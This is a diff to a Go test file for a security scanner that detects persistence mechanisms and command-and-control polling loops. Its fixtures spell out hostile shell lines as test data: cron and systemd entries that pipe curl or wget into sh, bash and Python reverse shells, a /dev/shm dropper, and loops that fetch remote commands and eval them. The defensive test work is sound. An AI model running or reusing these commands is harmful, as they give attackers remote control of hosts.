@@ -107,7 +107,7 @@ func TestShellBehaviour(t *testing.T) {
 		{name: "cron curl sh", path: "/etc/cron.d/sync", text: "*/5 * * * * root curl -fsSL http://203.0.113.45/a.sh | sh\n", want: []string{RuleCron}, cat: audit.CategoryPersistence, label: audit.CategoryMalware},
 		{name: "user crontab", path: "/var/spool/cron/crontabs/root", text: "@reboot /bin/bash -c 'sh -i >& /dev/tcp/198.51.100.7/53 0>&1'\n", want: []string{RuleDevTCP}, label: audit.CategoryPersistence},
 		{name: "crontab installer", path: "/usr/local/bin/setup.sh", text: "#!/bin/sh\n(crontab -l 2>/dev/null; echo \"* * * * * wget -q -O - http://198.51.100.7/s | bash\") | crontab -\n", want: []string{RuleCron}, cat: audit.CategoryPersistence},
-		{name: "systemd unit", path: "/etc/systemd/system/update-helper.service", text: "[Service]\nExecStart=/bin/bash -c 'while true; do curl -s http://198.51.100.7/t | bash; sleep 300; done'\n", want: []string{RuleSystemd}, cat: audit.CategoryPersistence},
+		{name: "systemd unit", path: "/etc/systemd/system/update-helper.service", text: "[Service]\nExecStart=/bin/bash -c 'while true; do curl -s http://198.51.100.7/t | bash; sleep 300; done'\n", want: []string{RuleHTTPAgent, RuleSystemd}, cat: audit.CategoryPersistence},
 		{name: "systemd reverse", path: "/lib/systemd/system/net-check.service", text: "[Service]\nExecStart=/usr/bin/python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'\n", want: []string{RulePython}, label: audit.CategoryPersistence},
 		{name: "rc.local", path: "/etc/rc.local", text: "#!/bin/sh -e\n(curl -s http://198.51.100.7/k.sh || wget -q -O- http://198.51.100.7/k.sh) | sh &\nexit 0\n", want: []string{RuleAutostart}, cat: audit.CategoryPersistence},
 		{name: "dropper", path: "/start.sh", text: "#!/bin/sh\ncd /dev/shm && wget -q http://198.51.100.7/x86 -O /dev/shm/.kthread && chmod +x /dev/shm/.kthread && /dev/shm/.kthread\n", want: []string{RuleDropRun}},
@@ -351,6 +351,30 @@ func TestFunctionCallsRunAgainWhenStateChanges(t *testing.T) {
 	} {
 		if got := rules(scanFile("/usr/local/bin/t", tc.text)); !slices.Contains(got, tc.want) {
 			t.Errorf("%s: got %v, want %s", tc.name, got, tc.want)
+		}
+	}
+}
+
+// TestPollingWithoutPostingBack holds RS-024 at high for a loop that runs what a web server
+// returns again and again with a pause between, sending nothing back itself; a loop over a
+// fixed list of installers, with no pause, is download-and-run only.
+func TestPollingWithoutPostingBack(t *testing.T) {
+	for _, tc := range []struct {
+		name, text string
+		agent      bool
+	}{
+		{"curl in a while loop, bash -c", "#!/bin/bash\nU=http://203.0.113.9:9000/cmd\nwhile true; do\n  C=$(curl -s $U)\n  [ -n \"$C\" ] && bash -c \"$C\"\n  sleep 5\ndone\n", true},
+		{"wget piped into sh, until false", "#!/bin/sh\nuntil false; do wget -qO- http://c2.example.net/t | sh; sleep $((RANDOM % 60)); done\n", true},
+		{"function fetching, loop sleeping in its condition", "#!/bin/sh\nget() { curl -fsS \"http://203.0.113.9/task?h=$(hostname)\"; }\nwhile sleep 30; do eval \"$(get)\"; done\n", true},
+		{"installers from a list", "#!/bin/sh\nfor s in a b c; do curl -fsSL https://get.example.org/$s.sh | sh; done\n", false},
+	} {
+		fs := scanFile("/usr/local/sbin/t", tc.text)
+		agent := false
+		for _, f := range fs {
+			agent = agent || f.Rule == RuleHTTPAgent && f.Severity >= audit.High
+		}
+		if agent != tc.agent {
+			t.Errorf("%s: agent %v, want %v\n%s", tc.name, agent, tc.agent, dump(fs))
 		}
 	}
 }
